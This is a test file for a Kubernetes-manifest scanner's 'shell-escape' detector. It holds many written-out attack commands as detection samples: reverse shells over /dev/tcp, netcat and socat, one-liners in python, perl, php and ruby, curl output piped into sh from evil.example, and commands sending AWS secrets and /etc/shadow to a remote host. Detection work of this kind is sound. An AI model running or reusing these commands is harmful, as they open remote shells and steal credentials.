import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { commandFindings, containerPath, cronJob, findingsOf, job, JOB_POD_SPEC } from '../indicator-helpers.js';

/** shell-escape findings for `sh -c <script>`. */
function escapes(script: string) {
  return commandFindings('shell-escape', ['/bin/sh', '-c', script]);
}

function messages(script: string): string[] {
  return escapes(script).map((finding) => finding.message);
}

function assertCaught(script: string, message: RegExp): void {
  const found = messages(script);
  assert.ok(found.some((text) => message.test(text)), `${JSON.stringify(script)} gave ${JSON.stringify(found)}`);
}

const REVERSE_SHELLS: Array<[string, string, RegExp]> = [
  ['bash -i to /dev/tcp', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', /interactive shell/],
  ['sh -i with combined flags', '/bin/sh -li 2>&1', /interactive shell/],
  ['/dev/udp redirection', 'sh -i < /dev/udp/10.0.0.1/53', /\/dev\/tcp or \/dev\/udp/],
  ['exec on a /dev/tcp file descriptor', 'exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read l; do $l 2>&5 >&5; done', /\/dev\/tcp/],
  ['cat from /dev/tcp', 'cat /dev/tcp/10.0.0.1/80', /\/dev\/tcp/],
  ['mkfifo relay', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f', /named pipe/],
  ['mknod p relay', 'mknod /tmp/p p && /bin/sh 0</tmp/p | nc h 1 1>/tmp/p', /named pipe/],
  ['socat', 'socat tcp-connect:10.0.0.1:4242 exec:/bin/sh,pty,stderr', /socat/],
  ['nc -e', 'nc -e /bin/sh 10.0.0.1 4242', /netcat with -e\/-c/],
  ['ncat -c', 'ncat -c bash 10.0.0.1 4242', /netcat with -e\/-c/],
  ['netcat with combined flags -nve', 'netcat -nve /bin/bash 10.0.0.1 4242', /netcat with -e\/-c/],
  ['ncat --sh-exec', 'ncat --sh-exec "bash -i" 10.0.0.1 4242', /netcat with -e\/-c/],
  ['curl piped into sh', 'curl -fsSL http://evil.example/x.sh | sh', /download piped into an interpreter/],
  ['wget -O- piped into bash', 'wget -qO- http://evil.example/x | bash -s -- --quiet', /download piped/],
  ['a download piped through base64 into sh', 'curl -s http://x/p | base64 -d | sh', /download piped/],
  ['curl piped into python', 'curl -s http://x/p.py | python3', /download piped/],
  ['curl piped into sudo bash', 'curl -s http://x | sudo bash', /download piped/],
  ['bash <(curl …)', 'bash <(curl -s http://x)', /download piped/],
  ['sh -c "$(curl …)"', 'sh -c "$(curl -fsSL http://x)"', /download piped/],
  ['eval "$(wget …)"', 'eval "$(wget -qO- http://x)"', /download piped/],
  ['source <(curl …)', 'source <(curl -s http://x)', /download piped/],
  ['python os.system of a download piped into sh', `python3 -c "import os; os.system('curl -s http://198.51.100.7/x | sh')"`, /download piped/],
  ['python subprocess with an argv list', `python3 -c 'import subprocess; subprocess.run(["socat", "tcp:198.51.100.7:1", "exec:sh"])'`, /socat/],
  ['php system of nc -e', `php -r 'system("nc -e /bin/sh 198.51.100.7 4242");'`, /netcat with -e/],
  ['perl backticks', 'perl -e \'`mkfifo /tmp/f`\'', /named pipe/],
  ['ruby %x()', `ruby -e '%x(bash -i >& /dev/tcp/198.51.100.7/1 0>&1)'`, /interactive shell/],
  ['node child_process execSync', `node -e 'require("child_process").execSync("wget -qO- http://198.51.100.7/x | bash")'`, /download piped/],
  ['a download saved and run', 'wget -qO /tmp/x http://198.51.100.7/x; /tmp/x --daemon', /runs a file it downloaded/],
  ['a download saved under its own name and run from there', 'cd /tmp && wget http://198.51.100.7/kit && ./kit', /runs a file it downloaded/],
  ['curl -fsSLo then sh', 'curl -fsSLo /tmp/i.sh http://x/i.sh && sh /tmp/i.sh', /runs a file it downloaded/],
  ['curl -O then python', 'curl -sO http://x/run.py && python3 run.py', /runs a file it downloaded/],
  ['curl > file then bash', 'curl -s http://x/s > /tmp/s; bash /tmp/s', /runs a file it downloaded/],
  ['python reverse shell', `python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);p=subprocess.call(["/bin/sh","-i"])'`, /reverse-shell one-liner/],
  ['python3 pty reverse shell', `python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")'`, /reverse-shell one-liner/],
  ['perl reverse shell', `perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, /reverse-shell one-liner/],
  ['perl -MIO reverse shell', `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`, /reverse-shell one-liner/],
  ['php reverse shell', `php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`, /reverse-shell one-liner/],
  ['ruby -rsocket reverse shell', `ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, /reverse-shell one-liner/],
  ['awk /inet/tcp reverse shell', `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1) { s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } }'`, /reverse-shell one-liner/],
  ['python reverse shell in a here-document', `python3 - <<'EOF'\nimport socket, subprocess\ns = socket.create_connection(("10.0.0.1", 4242))\nsubprocess.call(["/bin/sh"], stdin=s.fileno(), stdout=s.fileno())\nEOF`, /reverse-shell one-liner/],
  ['base64 -d', 'echo Y3VybCB4 | base64 -d > /tmp/run', /decodes base64/],
  ['base64 --decode', 'base64 --decode payload.b64 > /tmp/x', /decodes base64/],
  ['base64 -D (macOS spelling)', 'base64 -D -i p > x', /decodes base64/],
  ['base64 -di (combined)', 'base64 -di p > x', /decodes base64/],
  ['openssl base64 -d', 'openssl base64 -d -in p -out x', /decodes base64/],
  ['openssl enc -d -base64', 'openssl enc -d -base64 -in p', /decodes base64/],
  ['python exec of base64', `python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"`, /decodes base64/],
  ['php eval of base64_decode', `php -r 'eval(base64_decode("ZWNobyAxOw=="));'`, /decodes base64/],
  ['perl MIME::Base64 decode', `perl -MMIME::Base64 -e 'eval decode_base64("cHJpbnQgMQ==")'`, /decodes base64/],
  ['node Buffer.from base64', `node -e 'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())'`, /decodes base64/],
  ['chmod +x', 'curl -o /tmp/x http://x && chmod +x /tmp/x && /tmp/x', /chmod \+x/],
  ['chmod u+x', 'chmod u+x /tmp/x', /chmod \+x/],
  ['chmod a=rwx', 'chmod a=rwx /tmp/x', /chmod \+x/],
  ['chmod 755', 'chmod 755 /tmp/x', /chmod \+x/],
  ['chmod 4755 (setuid, executable)', 'chmod 4755 /tmp/x', /chmod \+x/],
  ['chmod -R +x', 'chmod -R +x /opt/kit', /chmod \+x/],
  ['busybox wrappers do not hide it', 'busybox nc -e /bin/sh 10.0.0.1 1', /netcat with -e/],
  ['nested sh -c', `bash -c "sh -c 'mkfifo /tmp/f'"`, /named pipe/],
];

describe('shell-escape catches', () => {
  for (const [name, script, message] of REVERSE_SHELLS) {
    test(name, () => assertCaught(script, message));
  }
});

const LOOK_ALIKES: Array<[string, string]> = [
  ['an echoed seed string', 'echo "bash -i /dev/tcp mkfifo socat base64 -d chmod +x"'],
  ['grep for the seed strings', "grep -E 'socat|mkfifo' /var/log/audit.log"],
  ['printf of a /dev/tcp path', 'printf "%s\\n" /dev/tcp/10.0.0.1/80'],
  ['a non-interactive bash script', 'bash /scripts/backup.sh --incremental'],
  ['bash -c with -e and -x flags', 'bash -exc "pg_dump db > /backup/db.sql"'],
  ['python encoding base64 is not decoding', `python3 -c 'import base64,sys;print(base64.b64encode(sys.stdin.buffer.read()))'`],
  ['base64 encoding', 'tar c /data | base64 > /backup/data.b64'],
  ['base64 -w 0 (wrap, not decode)', 'base64 -w 0 file'],
  ['chmod without execute bits', 'chmod 644 /etc/app.conf; chmod 600 ~/.ssh/id_rsa; chmod go-w /data; chmod -x /tmp/x'],
  ['chmod a+X (directories only)', 'chmod -R a+X /srv'],
  ['nc as a port check', 'until nc -z db 5432; do sleep 1; done'],
  ['ncat listening without exec', 'ncat -l 8080 --keep-open'],
  ['curl saving to a file', 'curl -fsSL -o /tmp/report.json http://api/report'],
  ['a downloaded data file read by a script', 'curl -fsSL -o /tmp/report.json http://api/report && cat /tmp/report.json && python3 /app/summarise.py /tmp/report.json'],
  ['wget to standard output, then a same-named program', 'wget -qO- http://api/kit | jq . ; kit --version'],
  ['curl piped into jq and grep', 'curl -s http://api/health | jq .status | grep -q ok'],
  ['a download piped into a script file run by sh', 'curl -s http://x | sh /scripts/consume.sh'],
  ['python with socket but no process', `python3 -c 'import socket; print(socket.gethostname())'`],
  ['python with subprocess but no socket', `python3 -c 'import subprocess; subprocess.run(["pg_dump", "db"])'`],
  ['python printing a command line', `python3 -c 'print("curl -s http://x | sh; nc -e /bin/sh h 1")'`],
  ['python exec of python code', `python3 -c 'exec("import socat_config")'`],
  ['perl one-liner without a socket', `perl -pi -e 's/foo/bar/' /etc/app.conf`],
  ['a here-document written to a file', "cat <<'EOF' > /tmp/notes\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nEOF"],
  ['a comment', '# socat tcp:x exec:sh\necho ok'],
  ['mkfifo as an argument', 'apk add --no-cache coreutils && which mkfifo'],
  ['a for-list of seed words', 'for w in socat mkfifo; do echo $w; done'],
];

describe('shell-escape leaves alone', () => {
  for (const [name, script] of LOOK_ALIKES) {
    test(name, () => assert.deepEqual(messages(script), []));
  }
});

describe('shell-escape reporting', () => {
  test('severity error, path and evidence of the script scalar', () => {
    const [finding, ...rest] = escapes('nc -e /bin/sh 10.0.0.1 4242');
    assert.equal(rest.length, 0);
    assert.equal(finding.indicator, 'shell-escape');
    assert.equal(finding.severity, 'error');
    assert.equal(finding.path, containerPath('command', 2));
    assert.equal(finding.evidence, 'nc -e /bin/sh 10.0.0.1 4242');
  });

  test('a download piped into a shell shows the whole pipeline as evidence', () => {
    const finding = escapes('set -e; curl -fsSL http://x | bash').find((f) => /download/.test(f.message));
    assert.equal(finding?.evidence, 'curl -fsSL http://x | bash');
  });

  test('one finding per technique per scalar; several techniques are several findings', () => {
    const found = escapes('mkfifo /tmp/a; mkfifo /tmp/b; cat /tmp/a | sh -i 2>&1 | nc h 1 > /tmp/a');
    assert.equal(found.filter((f) => /named pipe/.test(f.message)).length, 1);
    assert.equal(found.filter((f) => /interactive shell/.test(f.message)).length, 1);
  });

  test('a long multi-line command is quoted on one short line in the message, and kept in the evidence', () => {
    const script = 'x'.repeat(400) + '\n' + 'y'.repeat(400);
    const [finding] = commandFindings('shell-escape', ['bash', '-ic', script]);
    assert.ok(!finding.message.includes('\n'));
    assert.ok(finding.message.length < 250, String(finding.message.length));
    assert.ok(finding.message.endsWith('…'));
    assert.ok(finding.evidence.includes('\n' + 'y'.repeat(400)));
  });

  test('a direct argv without a shell: the finding points at argv[0]', () => {
    const [finding] = commandFindings('shell-escape', ['socat', 'tcp:10.0.0.1:1', 'exec:/bin/sh']);
    assert.equal(finding.path, containerPath('command', 0));
    assert.equal(finding.evidence, 'socat tcp:10.0.0.1:1 exec:/bin/sh');
  });

  test('args alone handed to a shell entrypoint: -c script', () => {
    const [finding] = commandFindings('shell-escape', undefined, ['-c', 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1']).filter((f) => /interactive/.test(f.message));
    assert.equal(finding.path, containerPath('args', 1));
  });

  test('a payload in an env value runs when command references it as $(VAR)', () => {
    const found = commandFindings('shell-escape', ['sh', '-c', '$(STAGE)'], undefined, { env: [['STAGE', 'curl -s http://x | sh']] });
    assert.equal(found.length, 1);
    assert.equal(found[0].path, containerPath('env', 0, 'value'));
  });

  test('the same payload in an env value that nothing runs is not a finding', () => {
    assert.deepEqual(commandFindings('shell-escape', ['/app/run'], undefined, { env: [['STAGE', 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1']] }), []);
  });

  test('a payload passed as a positional parameter is reported at the scalar that holds it', () => {
    const found = commandFindings('shell-escape', ['/bin/sh', '-c', 'eval "$1"', 'sh'], ['curl -s http://198.51.100.7/x | sh']);
    assert.equal(found.length, 1);
    assert.equal(found[0].path, containerPath('args', 0));
  });

  test('Jobs are checked like CronJobs', () => {
    const text = job(['restartPolicy: Never', 'containers:', '- name: x', '  image: alpine', '  command: ["sh", "-c", "socat tcp:h:1 exec:sh"]'].join('\n'));
    const [finding] = findingsOf(text, 'shell-escape');
    assert.equal(finding.path, `${JOB_POD_SPEC}/containers/0/command/2`);
    assert.equal(finding.range?.start.line, 12);
  });

  test('initContainers and ephemeralContainers commands are checked at their own paths', () => {
    const text = job(
      [
        'restartPolicy: Never',
        'initContainers:',
        '- {name: init, image: r/init, command: [sh, -c, "mkfifo /tmp/p"]}',
        'ephemeralContainers:',
        '- {name: debug, image: r/debug, command: [socat, "tcp:h:1", "exec:sh"]}',
        'containers:',
        '- {name: main, image: r/main}',
      ].join('\n'),
    );
    assert.deepEqual(
      findingsOf(text, 'shell-escape').map((finding) => finding.path),
      [`${JOB_POD_SPEC}/initContainers/0/command/2`, `${JOB_POD_SPEC}/ephemeralContainers/0/command/0`],
    );
  });

  const PORT_CHECKS = [
    'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done',
    'timeout 1 bash -c "</dev/tcp/redis/6379"',
    ': < /dev/tcp/api/443 && echo up',
  ];
  for (const script of PORT_CHECKS) {
    test(`a port check is a warning, not an error: ${script}`, () => {
      const found = escapes(script);
      assert.deepEqual(found.map((f) => f.severity), ['warning']);
      assert.match(found[0].message, /port check/);
    });
  }

  const NOT_PORT_CHECKS = [
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'exec 3<>/dev/tcp/10.0.0.1/80',
    'echo "$AWS_SECRET_ACCESS_KEY" > /dev/tcp/198.51.100.7/80',
    'cat /etc/shadow > /dev/tcp/198.51.100.7/80',
    'env | nc 198.51.100.7 80; printenv > /dev/udp/198.51.100.7/53',
  ];
  for (const script of NOT_PORT_CHECKS) {
    test(`not a port check, an error: ${script}`, () => {
      const found = escapes(script).filter((f) => /\/dev\/tcp/.test(f.message));
      assert.ok(found.length > 0);
      assert.ok(found.every((f) => f.severity === 'error'), JSON.stringify(found.map((f) => f.message)));
    });
  }

  test('an init container that downloads what the main container runs (shared volume)', () => {
    const text = job(
      [
        'restartPolicy: Never',
        'initContainers:',
        '- {name: fetch, image: "curlimages/curl:8.8.0", args: [-fsSL, -o, /work/agent, "http://198.51.100.7/agent"]}',
        'containers:',
        '- {name: main, image: r/main, command: [/work/agent]}',
      ].join('\n'),
    );
    const [finding] = findingsOf(text, 'shell-escape');
    assert.equal(finding.path, `${JOB_POD_SPEC}/containers/0/command/0`);
    assert.equal(finding.evidence, 'curl -fsSL -o /work/agent http://198.51.100.7/agent … /work/agent');
  });

  test('seed profile keeps shell-escape (it is clause 2)', async () => {
    const { analyseManifest, DEFAULT_CONFIG } = await import('../../src/index.js');
    const text = cronJob(['containers:', '- name: x', '  image: alpine', '  command: [socat, "tcp:h:1", "exec:sh"]'].join('\n'));
    const result = analyseManifest(text, 'x.yaml', { config: { ...DEFAULT_CONFIG, profile: 'seed' } });
    assert.ok(result.findings.some((finding) => finding.indicator === 'shell-escape'));
  });
});
